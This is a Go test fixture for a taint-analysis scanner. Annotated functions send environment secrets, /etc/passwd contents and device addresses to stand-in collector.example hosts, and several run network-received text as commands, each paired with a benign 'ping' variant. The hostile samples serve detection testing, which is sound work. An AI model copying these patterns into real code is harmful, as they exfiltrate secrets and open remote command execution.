// Sockets, TLS, packets, RPC and remote shells over plain connections.
package models

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"net/rpc"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/pcap"
)

const U = "https://collector.example/u?"

func dialled() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ capability(NETWORK), endpoint("tcp.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f1, sink(egress.socket) f1, finding(traced) f1
}

func dialledRead() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ source(NETWORK) f2
	b, _ := io.ReadAll(c)
	exec.Command(string(b)).Run() //~ sink(exec.command) f2, finding(traced) f2
}

func dialledForWriter() {
	c, _ := net.Dial("tcp", "writer.collector.example:443") //~ sink(egress.socket) f3, finding(traced) f3
	sendThrough(c, os.Getenv("T")) //~ source(ENVIRONMENT) f3
}

func sendThrough(w io.Writer, text string) {
	io.WriteString(w, text)
}

func dialledConstant() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledAddress() {
	a, _ := net.ResolveUDPAddr("udp", "udp.collector.example:53")
	c, _ := net.DialUDP("udp", nil, a) //~ capability(NETWORK)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
}

func dialledAddressConstant(a *net.UDPAddr) {
	c, _ := net.DialUDP("udp", nil, a) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledBy(d *net.Dialer) {
	c, _ := tls.DialWithDialer(d, "tcp", "tls.collector.example:443", nil) //~ capability(NETWORK), endpoint("tls.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
}

func dialledByConstant(d *net.Dialer) {
	c, _ := tls.DialWithDialer(d, "tcp", "tls.collector.example:443", nil) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialer(d net.Dialer) {
	c, _ := d.Dial("tcp", "dialer.collector.example:443") //~ capability(NETWORK), endpoint("dialer.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f10, sink(egress.socket) f10, finding(traced) f10
}

func dialerConstant(d net.Dialer) {
	c, _ := d.Dial("tcp", "dialer.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialerContext(d net.Dialer, ctx context.Context) {
	c, _ := d.DialContext(ctx, "tcp", "context.collector.example:443") //~ capability(NETWORK), endpoint("context.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f12, sink(egress.socket) f12, finding(traced) f12
}

func dialerContextConstant(d net.Dialer, ctx context.Context) {
	c, _ := d.DialContext(ctx, "tcp", "context.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func dialledLocal(a *net.UnixAddr) {
	c, _ := net.DialUnix("unix", nil, a) //~ capability(IPC)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f14, sink(egress.ipc) f14, finding(traced) f14
}

func dialledLocalConstant(a *net.UnixAddr) {
	c, _ := net.DialUnix("unix", nil, a) //~ ok
	c.Write([]byte("ping")) //~ ok
}

func local(c *net.UnixConn) {
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f16, sink(egress.ipc) f16, finding(traced) f16, capability(IPC)
}

func localConstant(c *net.UnixConn) {
	c.Write([]byte("ping")) //~ ok
}

func listened() {
	l, _ := net.Listen("tcp", ":80") //~ capability(NETWORK)
	c, _ := l.Accept() //~ source(NETWORK) f18
	b, _ := io.ReadAll(c)
	exec.Command(string(b)).Run() //~ sink(exec.command) f18, finding(traced) f18
}

func listenedOnly() {
	l, _ := net.Listen("tcp", ":80") //~ ok
	l.Close()
}

func accepted(l net.Listener) {
	c, _ := l.Accept() //~ capability(NETWORK)
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f20, sink(egress.socket) f20, finding(traced) f20
}

func acceptedConstant(l net.Listener) {
	c, _ := l.Accept() //~ ok
	c.Write([]byte("ping")) //~ ok
}

func packets(a net.Addr) {
	p, _ := net.ListenPacket("udp", ":0") //~ capability(NETWORK)
	p.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f22, sink(egress.socket) f22, finding(traced) f22
}

func packetsConstant(a net.Addr) {
	p, _ := net.ListenPacket("udp", ":0") //~ ok
	p.WriteTo([]byte("ping"), a) //~ ok
}

func sent(c net.Conn) {
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f24, sink(egress.socket) f24, finding(traced) f24, capability(NETWORK)
}

func sentConstant(c net.Conn) {
	c.Write([]byte("ping")) //~ ok
}

func sentTo(c net.PacketConn, a net.Addr) {
	c.WriteTo([]byte(os.Getenv("T")), a) //~ source(ENVIRONMENT) f26, sink(egress.socket) f26, finding(traced) f26, capability(NETWORK)
}

func sentToConstant(c net.PacketConn, a net.Addr) {
	c.WriteTo([]byte("ping"), a) //~ ok
}

func sentFrom(c *net.TCPConn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f28
	c.ReadFrom(f) //~ sink(egress.socket) f28, finding(traced) f28, capability(NETWORK)
}

func sentFromConstant(c *net.TCPConn) {
	c.ReadFrom(strings.NewReader("ping")) //~ ok
}

func received(c net.Conn) {
	b := make([]byte, 64)
	n, _ := c.Read(b) //~ source(NETWORK) f30, capability(NETWORK)
	exec.Command(string(b[:n])).Run() //~ sink(exec.command) f30, finding(traced) f30
}

func receivedUnused(c net.Conn) {
	c.Read(make([]byte, 64)) //~ ok
}

func receivedLine(c net.Conn) {
	line, _ := bufio.NewReader(c).ReadString('\n') //~ source(NETWORK) f32, capability(NETWORK)
	exec.Command(line).Run() //~ sink(exec.command) f32, finding(traced) f32
}

func receivedLineUnused(c net.Conn) {
	bufio.NewReader(c).ReadString('\n') //~ ok
}

func receivedAll(c net.Conn) {
	b, _ := io.ReadAll(c) //~ source(NETWORK) f34
	exec.Command(string(b)).Run() //~ sink(exec.command) f34, finding(traced) f34
}

func receivedAllUnused(c net.Conn) {
	io.ReadAll(c) //~ ok
}

func receivedLines(c net.Conn) {
	s := bufio.NewScanner(c) //~ source(NETWORK) f36
	for s.Scan() {
		exec.Command(s.Text()).Run() //~ sink(exec.command) f36, finding(traced) f36
	}
}

func receivedLinesUnused(c net.Conn) {
	bufio.NewScanner(c) //~ ok
}

func closedConnection() {
	c, _ := net.Dial("tcp", "tcp.collector.example:443")
	err := c.SetDeadline(time.Time{}) //~ ok
	exec.Command(err.Error()).Run() //~ ok
}

func ownAddress(c net.Conn) {
	http.Get(U + c.LocalAddr().String()) //~ source(DEVICE) f39, sink(egress.http) f39, finding(traced) f39, capability(DEVICE)
}

func ownAddressUnused(c net.Conn) {
	c.LocalAddr() //~ ok
}

func secured(c net.Conn) {
	s := tls.Client(c, &tls.Config{}) //~ capability(NETWORK)
	s.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f41, sink(egress.socket) f41, finding(traced) f41
}

func securedConstant(c net.Conn) {
	s := tls.Client(c, &tls.Config{}) //~ ok
	s.Write([]byte("ping")) //~ ok
}

func resolved() {
	net.ResolveTCPAddr("tcp", "resolve.collector.example:443") //~ capability(DNS)
}

func resolvedConstant() {
	a, _ := net.ResolveTCPAddr("tcp", "resolve.collector.example:443") //~ ok
	http.Get(U + a.String()) //~ ok
}

func hostJoined() {
	http.Get("https://" + net.JoinHostPort(os.Getenv("T"), "443")) //~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45
	http.Get("https://" + net.JoinHostPort("collector.example", "443")) //~ ok
}

func hostSplit() {
	h, _, _ := net.SplitHostPort(os.Getenv("T")) //~ source(ENVIRONMENT) f46
	http.Get(U + h) //~ sink(egress.http) f46, finding(traced) f46
}

func hostSplitConstant() {
	h, _, _ := net.SplitHostPort("a:1") //~ ok
	http.Get(U + h) //~ ok
}

func localPair() {
	net.Pipe() //~ capability(IPC)
}

func localPairUnused() {
	net.Pipe() //~ ok
}

func rawSent(fd int, a syscall.Sockaddr) {
	syscall.Sendto(fd, []byte(os.Getenv("T")), 0, a) //~ source(ENVIRONMENT) f50, sink(egress.socket) f50, finding(traced) f50, capability(NETWORK)
}

func rawSentConstant(fd int, a syscall.Sockaddr) {
	syscall.Sendto(fd, []byte("ping"), 0, a) //~ ok
}

func rawReceived(fd int) {
	b := make([]byte, 64)
	syscall.Recvfrom(fd, b, 0) //~ source(NETWORK) f52, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f52, finding(traced) f52
}

func rawReceivedUnused(fd int) {
	syscall.Recvfrom(fd, make([]byte, 64), 0) //~ ok
}

func rawFile(fd int) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f54
	syscall.Sendfile(fd, int(f.Fd()), nil, 64) //~ sink(egress.socket) f54, MISSING: finding(traced) f54
}

func rawFileDescriptor(fd int) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f55
	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f55, finding(traced) f55, capability(NETWORK)
}

func rawFileConstant(fd int) {
	syscall.Sendfile(fd, 0, nil, 64) //~ ok
}

func rawOpened(fd int) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f57, capability(FILES)
	syscall.Sendfile(fd, in, nil, 64) //~ sink(egress.socket) f57, finding(traced) f57
}

func rawOpenedOnly() {
	syscall.Open("/etc/passwd", 0, 0) //~ ok
}

func rawRead(c net.Conn) {
	in, _ := syscall.Open("/etc/passwd", 0, 0) //~ source(FILE) f59
	b := make([]byte, 64)
	syscall.Read(in, b)
	c.Write(b) //~ sink(egress.socket) f59, finding(traced) f59
}

func rawReadConstant(c net.Conn) {
	b := make([]byte, 64)
	syscall.Read(0, b) //~ ok
	c.Write(b) //~ ok
}

func procedure() {
	c, _ := rpc.Dial("tcp", "rpc.collector.example:80") //~ capability(NETWORK), endpoint("rpc.collector.example:80")
	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f61, sink(egress.message) f61, finding(traced) f61
}

func procedureConstant() {
	c, _ := rpc.Dial("tcp", "rpc.collector.example:80") //~ ok
	c.Call("Put", "ping", nil) //~ ok
}

func procedureCalled(c *rpc.Client) {
	c.Call("Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f63, sink(egress.message) f63, finding(traced) f63, capability(NETWORK)
}

func procedureAnswer(c *rpc.Client) {
	var answer string
	c.Call("Next", 1, &answer) //~ source(NETWORK) f64
	exec.Command(answer).Run() //~ sink(exec.command) f64, finding(traced) f64
}

func procedureCalledConstant(c *rpc.Client) {
	c.Call("Put", "ping", nil) //~ ok
}

func packetSent(h *pcap.Handle) {
	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f66, sink(egress.socket) f66, finding(traced) f66, capability(NETWORK)
}

func packetSentConstant(h *pcap.Handle) {
	h.WritePacketData([]byte("ping")) //~ ok
}

func packetRead(h *pcap.Handle) {
	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f68, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f68, finding(traced) f68
}

func packetReadUnused(h *pcap.Handle) {
	h.ReadPacketData() //~ ok
}

func captured() {
	h, _ := pcap.OpenLive("eth0", 1600, true, pcap.BlockForever) //~ capability(NETWORK)
	h.WritePacketData([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f70, sink(egress.socket) f70, finding(traced) f70
}

func capturedConstant() {
	h, _ := pcap.OpenLive("eth0", 1600, true, pcap.BlockForever) //~ ok
	h.WritePacketData([]byte("ping"))
}

func packetMade(h *pcap.Handle) {
	b, _, _ := h.ReadPacketData() //~ source(NETWORK) f72
	p := gopacket.NewPacket(b, nil, gopacket.Default)
	exec.Command(string(p.ApplicationLayer().Payload())).Run() //~ sink(exec.command) f72, finding(assumed) f72
	exec.Command(gopacket.NewPacket(b, nil, gopacket.Default)).Run() //~ sink(exec.command) f72, finding(traced) f72
}

func packetMadeConstant() {
	exec.Command(gopacket.NewPacket([]byte("a"), nil, gopacket.Default)).Run() //~ ok
}

func addressText() {
	all, _ := net.InterfaceAddrs() //~ source(DEVICE) f74
	for _, one := range all {
		http.Get(U + one.String()) //~ sink(egress.http) f74, finding(traced) f74
	}
}

func addressTextConstant(a net.Addr) {
	http.Get(U + a.String()) //~ ok
}

func hardwareAddress() {
	all, _ := net.Interfaces() //~ source(DEVICE) f76
	http.Get(U + all[0].HardwareAddr.String()) //~ sink(egress.http) f76, finding(traced) f76
}

func hardwareAddressConstant(i net.Interface) {
	http.Get(U + i.HardwareAddr.String()) //~ ok
}

func interfaceAddresses(i net.Interface) {
	all, _ := i.Addrs() //~ source(DEVICE) f78, capability(DEVICE)
	http.Get(U + all[0].String()) //~ sink(egress.http) f78, finding(traced) f78
}

func interfaceAddressesUnused(i net.Interface) {
	i.Addrs() //~ ok
}
